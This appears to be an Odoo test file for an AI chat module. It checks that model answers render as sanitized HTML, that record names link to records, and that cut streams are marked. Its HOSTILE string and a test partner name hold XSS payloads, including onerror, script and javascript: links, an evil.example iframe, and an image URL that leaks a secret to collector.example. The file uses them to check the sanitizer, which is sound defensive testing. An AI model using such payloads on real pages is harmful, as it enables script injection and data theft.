import lxml.html

from odoo.exceptions import AccessError
from odoo.tests import tagged

from ..ai_engine import Message, StreamInterrupted
from ..ai_engine.runner import INTERRUPTED
from ..ai_engine.testing import chunked, interrupted, reply
from ..rendering import records_in, render_markdown
from ..tools.catalogue import CATALOGUE, RECORD_KEYS
from .common import AiaCase

HOSTILE = (
    'Hi <img src=x onerror="alert(1)"> <script>alert(2)</script> [click](javascript:alert(3)) '
    '![x](https://collector.example/leak?d=secret) <a href="javascript:alert(4)">a</a> '
    '<iframe src="https://evil.example"></iframe>'
)


@tagged("post_install", "-at_install")
class TestRenderedAnswers(AiaCase):
    """What the chat shows of an answer: the model's Markdown as sanitized HTML, record
    references as links, hostile markup inert; a cut stream kept and marked."""

    def test_markdown_renders_to_html(self):
        html = render_markdown(
            self.env,
            "## Totals\n\n- **Open**: 3\n- Closed: 2\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```\nx < 1\n```\nSee [the docs](https://www.odoo.com).",
        )
        for part in ("<h2>Totals</h2>", "<strong>Open</strong>", "<li>", "<table>", "<td>1</td>", "x &lt; 1"):
            self.assertIn(part, html)
        self.assertIn('href="https://www.odoo.com"', html)
        self.assertIn('rel="noopener noreferrer"', html)
        self.assertIn('target="_blank"', html)

    def test_record_references_link_to_existing_models_only(self):
        partner = self.env["res.partner"].create({"name": "Zq Linked"})
        html = render_markdown(self.env, f"Updated res.partner,{partner.id}; not.a.model,4; `res.partner,9`")
        self.assertIn(f'<a href="/odoo/res.partner/{partner.id}" data-oe-model="res.partner"', html)
        self.assertNotIn("/odoo/not.a.model", html)
        self.assertIn("<code>res.partner,9</code>", html)  # code stays code

    def test_hostile_markup_in_an_answer_and_a_tool_result_is_inert(self):
        session = self.new_session()
        self.script(reply(HOSTILE))
        self.chat(session, "Hello")
        [answer] = [m for m in session.chat_data()["messages"] if m["role"] == "assistant"]
        # No element or attribute of the hostile text survives: only its words, as text.
        tree = lxml.html.fragment_fromstring(answer["html"], create_parent="div")
        self.assertEqual({element.tag for element in tree.iter()}, {"div", "p", "a"})
        for link in tree.iter("a"):
            self.assertTrue(link.get("href").startswith("https://"), link.get("href"))
            self.assertEqual(set(link.attrib), {"href", "target", "rel"})
        self.assertIn('<img src=x onerror="alert(1)">', tree.text_content())
        # The rendered answer is stored once; its owner cannot plant markup in it over RPC.
        message = session.message_ids_aia.filtered(lambda m: m.role == "assistant")
        with self.assertRaises(AccessError):
            message.with_user(self.user).write({"html": '<img src="x" onerror="alert(5)">'})
        self.assertIn("&lt;img", answer["html"])  # shown as text
        self.assertEqual(answer["text"], HOSTILE)  # the copy button copies what the model wrote

    def test_a_cut_stream_keeps_the_text_shown_marked_as_interrupted(self):
        session = self.new_session()
        cut = StreamInterrupted("The connection to the model was lost.", provider="test")
        self.script(interrupted(chunked(reply("The **balance** is 42 and"), 4), cut))
        self.chat(session, "Balance?")
        # The chat words the failure from its code and shows the message as the detail.
        self.assertEqual(session.state, "error")
        self.assertEqual(session.chat_data()["error_code"], "provider_stream_interrupted")
        self.assertIn("The connection to the model was lost.", session.error_message)
        answer = session.message_ids_aia.filtered(lambda m: m.role == "assistant")
        self.assertTrue(answer.body.startswith("The **balance** is 42 and"))
        self.assertIn(INTERRUPTED, answer.body)
        [shown] = [m for m in session.chat_data()["messages"] if m["role"] == "assistant"]
        self.assertIn("<strong>balance</strong>", shown["html"])
        self.assertIn("interrupted", shown["html"])

    def test_answers_saved_before_rendering_existed_are_rendered_when_shown(self):
        session = self.new_session()
        self.env["aia.message"].create(
            {
                "session_id": session.id,
                "role": "assistant",
                "content": Message.assistant("**Saved** earlier").to_dict(),
                "html": False,  # as a row from before the field was added
            }
        )
        [answer] = session.chat_data()["messages"]
        self.assertEqual(answer["html"], "<p><strong>Saved</strong> earlier</p>\n")

    def test_names_of_records_the_tools_returned_link_to_them(self):
        Partner = self.env["res.partner"]
        azure, deco = Partner.create([{"name": "Zq Azure Interior"}, {"name": "Zq Deco Addict"}])
        Partner.create([{"name": "Zq Twin"}, {"name": "Zq Twin"}])
        hostile_text = 'Zq <img src=x onerror="alert(1)">'
        hostile = Partner.create({"name": hostile_text})
        _model, session = self.run_turn(
            "Who are our Zq contacts?",
            (
                "orm_search_read",
                {"model": "res.partner", "domain": [["name", "like", "Zq"]], "fields": ["name"]},
            ),
            "Zq Azure Interior owes most, then Zq Deco Addict (`Zq Deco Addict` in code). Zq Twin is "
            f"two contacts. [Zq Azure Interior](https://www.odoo.com) keeps its link. {hostile_text}.",
        )
        messages = session.with_user(self.user).chat_data()["messages"]
        answer = [m for m in messages if m["role"] == "assistant"][-1]
        tree = lxml.html.fragment_fromstring(answer["html"], create_parent="div")
        links = [(a.get("href"), a.text_content()) for a in tree.iter("a")]
        self.assertEqual(
            links,
            [
                (f"/odoo/res.partner/{azure.id}", "Zq Azure Interior"),
                (f"/odoo/res.partner/{deco.id}", "Zq Deco Addict"),
                ("https://www.odoo.com", "Zq Azure Interior"),
                (f"/odoo/res.partner/{hostile.id}", hostile_text),
            ],
        )
        # The name two records share links neither; the hostile name is text inside its link.
        self.assertNotIn("img", {element.tag for element in tree.iter()})
        self.assertIn("Zq Twin is two contacts", tree.text_content())

    def test_the_records_a_tool_output_names(self):
        output = {
            "model": "res.partner",
            "records": [
                {"id": 7, "display_name": "Azure"},
                {"id": 8, "name": "Deco", "nested": {"id": 9, "name": "X"}},
            ],
            "rows": [
                {"customer_id": 5, "customer": "Gemini"},
                {"customer_id": True, "customer": "Not an id"},
            ],
            "created": {"model": "sale.order", "id": 3, "display_name": "S00003"},
        }
        self.assertEqual(
            records_in(output, {"customer_id": "res.partner"}),
            [
                ("res.partner", 7, "Azure"),
                ("res.partner", 8, "Deco"),
                ("res.partner", 5, "Gemini"),
                ("sale.order", 3, "S00003"),
            ],
        )

    def test_declared_record_keys_name_models_of_this_database(self):
        offered = set(self.env["aia.tool"].search([]).mapped("name"))
        declared = {name: keys for name, keys in RECORD_KEYS.items() if name in offered}
        self.assertIn("orm.search_read", offered)
        for name, keys in declared.items():
            self.assertIsNotNone(CATALOGUE.get(name), name)
            for id_key, model in keys.items():
                self.assertTrue(id_key.endswith("_id"), (name, id_key))
                self.assertIn(model, self.env, (name, model))
